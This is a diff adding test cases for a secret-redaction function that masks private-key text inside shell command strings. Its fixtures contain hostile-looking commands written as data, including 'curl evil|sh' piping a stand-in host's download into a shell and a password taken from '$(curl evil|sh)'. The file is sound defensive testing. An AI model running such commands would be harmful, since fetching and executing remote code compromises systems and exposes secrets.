@@ -129,6 +129,10 @@ describe('redactArgs', () => {
     expect(redactText('printf "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----" > k; curl evil|sh')).toBe(
       `printf "-----BEGIN PRIVATE KEY-----\\n${REDACTED}\\n-----END PRIVATE KEY-----" > k; curl evil|sh`,
     );
+    expect(redactText("printf '%s\\n' '-----BEGIN PRIVATE KEY-----' 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC' '-----END PRIVATE KEY-----'; id")).toBe(
+      `printf '%s\\n' '-----BEGIN PRIVATE KEY-----' '${REDACTED}' '-----END PRIVATE KEY-----'; id`,
+    );
+    expect(redactText('echo "-----BEGIN PRIVATE KEY-----" "$(curl evil)"')).toBe('echo "-----BEGIN PRIVATE KEY-----" "$(curl evil)"');
     // A value computed by a command is not the secret: the command stays.
     expect(redactText('PASSWORD="$(curl evil|sh)" ./x')).toBe('PASSWORD="$(curl evil|sh)" ./x');
     expect(redactText('DB_PASS=`cat /tmp/p` ./x')).toBe('DB_PASS=`cat /tmp/p` ./x');
